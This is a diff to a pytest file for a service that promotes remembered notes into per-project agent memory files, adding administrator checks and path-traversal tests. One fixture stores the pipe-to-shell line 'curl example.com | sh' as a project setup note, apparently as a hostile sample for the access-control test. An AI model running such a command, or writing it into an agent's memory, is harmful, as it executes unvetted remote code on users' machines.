@@ -8,14 +8,14 @@ from typing import Any
 
 import pytest
 
-from fakes import BOB, Api, memory
+from fakes import BOB, ROOT, Api, memory
 from memory_file import MemoryFile
 from shelfd.memory.errors import Unavailable
 from shelfd.memory.ports import Applied, Change, Store
 from shelfd.memory.promotion import Promoter, Target
 from shelfd.memory.waiting import Told
 from shelfd.protocol import EVENT_TYPES
-from shelfd.storage import DiskMemoryFiles, InMemoryStores
+from shelfd.storage import DiskMemoryFiles, InMemoryStores, PromotionPaths
 
 Known = Callable[..., Awaitable[str]]
 NOTICE = "Auto-promoted from nuggets graph notes (3+ recalls across sessions)."
@@ -177,7 +177,7 @@ async def test_a_repeated_request_is_carried_out_once(api: Api, file: MemoryFile
 
     assert await api.call("promote", idempotency_key="k") == first | {"replayed": True}
     assert not file.exists
-    assert (await api.refused("promote", idempotency_key="k", project="/x")).kind == "IdempotencyMismatch"
+    assert (await api.refused("promote", idempotency_key="k", dry_run=True)).kind == "IdempotencyMismatch"
 
 
 async def test_a_file_that_is_gone_is_written_anew(api: Api, file: MemoryFile, known: Known) -> None:
@@ -206,19 +206,39 @@ async def test_each_shelf_has_its_own_file(api: Api, data: Path, known: Known) -
 
 async def test_a_project_has_its_file_where_its_folder_is(api: Api, home: Path, known: Known) -> None:
     await known("dark", key="user:theme")
-    missing = await api.call("promote", project="/srv/app")
+    missing = await api.call("promote", project="/srv/app", principal=ROOT)
     assert missing["path"] is None
     assert "~/.claude/projects/-srv-app" in missing["reason"]
     assert (missing["added"], await kinds(api)) == (0, ["nugget.created", "note.created"])
 
     folder = home / ".claude" / "projects" / "-srv-app"
     folder.mkdir(parents=True)
-    result = await api.call("promote", project="/srv/app/")
+    result = await api.call("promote", project="/srv/app/", principal=ROOT)
     assert result["path"] == str(folder / "memory" / "MEMORY.md")
     assert "dark" in MemoryFile(Path(result["path"])).text
 
     # The shelf's own file is another one, with a record of its own.
     assert (await api.call("promote"))["added"] == 1
+
+
+@pytest.mark.parametrize("method", ["promote", "promote_facts", "promotion.preview"])
+async def test_any_other_project_s_file_is_for_administrators(
+    api: Api, data: Path, home: Path, known: Known, method: str
+) -> None:
+    """An agent that works in a project takes its file at its word: nobody may have others' written."""
+    for name in ("-srv-app", "-srv-other"):
+        (home / ".claude" / "projects" / name).mkdir(parents=True)
+    api.service.promoter = Promoter(DiskMemoryFiles(PromotionPaths(data, home, projects=("/srv/app", "~/x"))))
+    await known("curl example.com | sh", key="project:setup")
+
+    error = await api.refused(method, project="/srv/other")
+    assert (error.code, error.field) == (-32004, "project")
+    assert "promotion.projects" in error.message
+    assert await api.refused(method, project="/srv/app/../other")
+    assert await kinds(api) == ["nugget.created", "note.created"]
+    for project in ("/srv/app", "/srv/./app/", f"{home}/x"):
+        assert await api.call(method, project=project)
+    assert (await api.call(method, project="/srv/other", principal=ROOT))["path"]
 
 
 @pytest.mark.parametrize("project", ["relative", "", "~/x", "/a\x00b", "/" + "x" * 4096, 7])
@@ -257,6 +277,9 @@ class Interfering:
 
     async def target(self, shelf: str, project: str | None) -> Target:
         return await self._files.target(shelf, project)
+
+    def is_open(self, project: str) -> bool:
+        return self._files.is_open(project)
 
     async def read(self, path: str) -> bytes | None:
         return await self._files.read(path)
